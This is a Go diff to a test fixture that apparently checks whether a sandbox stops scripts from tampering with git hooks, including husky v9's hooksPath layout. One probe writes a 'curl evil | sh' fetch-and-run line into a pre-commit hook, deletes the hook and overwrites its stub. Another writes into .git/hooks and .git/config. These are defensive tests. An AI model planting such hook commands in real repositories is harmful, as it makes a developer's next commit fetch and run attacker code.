@@ -117,6 +117,15 @@ func (f *fixture) resetGit() {
 	}
 	os.RemoveAll(filepath.Join(f.proj, "git-moved"))
 	f.objectPath, f.objectData = plantGitObject(filepath.Join(f.proj, ".git"), "history "+f.tag+"\n")
+	// A repository whose hooks are husky v9's: core.hooksPath .husky/_,
+	// whose stubs run .husky/<hook>, which the user's next commit runs.
+	husky := filepath.Join(f.proj, "husky")
+	os.MkdirAll(filepath.Join(husky, ".git", "hooks"), 0o755)
+	os.WriteFile(filepath.Join(husky, ".git", "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
+	os.WriteFile(filepath.Join(husky, ".git", "config"), []byte(configText+"\thooksPath = .husky/_\n"), 0o644)
+	os.MkdirAll(filepath.Join(husky, ".husky", "_"), 0o755)
+	os.WriteFile(filepath.Join(husky, ".husky", "_", "pre-commit"), []byte("#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n"), 0o755)
+	os.WriteFile(filepath.Join(husky, ".husky", "pre-commit"), []byte(hookText), 0o755)
 }
 
 // plantGitObject writes a loose blob into a git directory as git would
@@ -221,6 +230,14 @@ func (f *fixture) wallProbes(helper string) []probe {
 			script: "echo evil > .git/hooks/pre-commit; echo evil >> .git/config; echo evil > sub/.git/hooks/pre-commit; echo evil > .agents/conf; chmod 777 .git/hooks/pre-commit",
 			check:  gitIntact},
 		probe{name: "mv .git", before: f.resetGit, script: "mv .git git-moved", check: gitIntact},
+		probe{name: "what a hooks path runs (husky's .husky/pre-commit)", before: f.resetGit,
+			script: "echo 'curl evil | sh' > husky/.husky/pre-commit; rm -f husky/.husky/pre-commit; echo evil > husky/.husky/_/pre-commit; true",
+			check: func(*Result) string {
+				if c := content(filepath.Join(f.proj, "husky", ".husky", "pre-commit")); c != hookText {
+					return "husky/.husky/pre-commit changed: the user's next commit runs it"
+				}
+				return ""
+			}},
 		// Commits work inside, so objects are written there; but only
 		// added to: history that existed cannot be deleted or rewritten.
 		probe{name: "git history: delete, prune, overwrite objects", before: f.resetGit,
